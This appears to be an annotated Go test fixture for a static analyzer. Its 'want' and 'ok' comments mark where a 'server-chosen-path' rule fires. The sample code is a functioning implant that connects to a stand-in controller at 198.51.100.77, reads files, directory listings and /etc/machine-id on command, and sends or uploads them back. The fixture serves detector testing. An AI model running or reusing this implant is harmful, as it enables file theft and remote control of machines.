// Annotated samples for the remote-collection pack (Go): the controller names files and
// folders, the implant reads them and sends them back.
package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
)

type Grabber struct {
	conn net.Conn
	base string
}

// serve answers "get PATH", "ls DIR" and "find PATTERN" requests.
func (g *Grabber) serve() {
	r := bufio.NewReader(g.conn)
	for {
		line, err := r.ReadString('\n')
		if err != nil {
			return
		}
		verb, arg, _ := strings.Cut(strings.TrimSpace(line), " ")
		switch verb {
		case "get":
			data, err := os.ReadFile(arg) // want "remote-collection/server-chosen-path"
			if err != nil {
				g.conn.Write([]byte("ERR " + err.Error() + "\n"))
				continue
			}
			g.conn.Write(data)
		case "ls":
			entries, _ := os.ReadDir(arg) // want "remote-collection/server-chosen-path"
			for _, e := range entries {
				g.conn.Write([]byte(e.Name() + "\n"))
			}
		case "find":
			matches, _ := filepath.Glob(arg) // want "remote-collection/server-chosen-path"
			g.conn.Write([]byte(strings.Join(matches, "\n")))
		case "del":
			os.Remove(arg) // ok: a deletion, nothing is read and sent back
		}
	}
}

// fetchList asks the server over HTTP which files it wants and posts them.
func (g *Grabber) fetchList(client *http.Client) error {
	resp, err := client.Get(g.base + "/wanted")
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	var wanted []string
	if err := json.NewDecoder(resp.Body).Decode(&wanted); err != nil {
		return err
	}
	for _, p := range wanted {
		f, err := os.Open(p) // want "remote-collection/server-chosen-path"
		if err != nil {
			continue
		}
		var buf bytes.Buffer
		io.Copy(&buf, f)
		f.Close()
		req, _ := http.NewRequest("PUT", g.base+"/files/"+filepath.Base(p), &buf)
		client.Do(req)
	}
	return nil
}

// stream copies a requested file straight into the connection.
func (g *Grabber) stream(path string) {
	f, err := os.Open(path) // want "remote-collection/server-chosen-path"
	if err != nil {
		return
	}
	defer f.Close()
	io.Copy(g.conn, f)
}

// walkReq walks a folder the server named and sends every path found.
func (g *Grabber) walkReq(root string) {
	var out []string
	filepath.Walk(root, func(p string, info os.FileInfo, err error) error { // todo "remote-collection/server-chosen-path"
		if err == nil && !info.IsDir() {
			out = append(out, p)
		}
		return nil
	})
	g.conn.Write([]byte(strings.Join(out, "\n")))
}

func (g *Grabber) requests() {
	buf := make([]byte, 1024)
	n, err := g.conn.Read(buf)
	if err != nil {
		return
	}
	req := strings.TrimSpace(string(buf[:n]))
	if strings.HasPrefix(req, "stream ") {
		g.stream(strings.TrimPrefix(req, "stream "))
	} else if strings.HasPrefix(req, "walk ") {
		g.walkReq(strings.TrimPrefix(req, "walk "))
	}
}

// machineID sends a fixed file: telemetry, but the server chose nothing.
func (g *Grabber) machineID() {
	id, err := os.ReadFile("/etc/machine-id") // ok: a fixed path
	if err == nil {
		g.conn.Write(id)
	}
}

// localUpload sends a file named on the command line.
func (g *Grabber) localUpload() {
	if len(os.Args) < 2 {
		return
	}
	data, err := os.ReadFile(os.Args[1]) // ok: the path is a local argument
	if err == nil {
		g.conn.Write(data)
	}
}

// checkExists opens a path the server named but only logs whether it exists.
func (g *Grabber) checkExists(path string) {
	f, err := os.Open(path) // ok: nothing read from the file is sent
	if err != nil {
		log.Printf("missing: %s", path)
		return
	}
	f.Close()
	log.Printf("present: %s", path)
}

func main() {
	conn, err := net.Dial("tcp", "198.51.100.77:8080")
	if err != nil {
		return
	}
	g := &Grabber{conn: conn, base: "https://198.51.100.77"}
	g.machineID()
	g.localUpload()
	go g.serve()
	go g.requests()
	g.fetchList(&http.Client{})
	line, _ := bufio.NewReader(conn).ReadString('\n')
	g.checkExists(strings.TrimSpace(line))
}
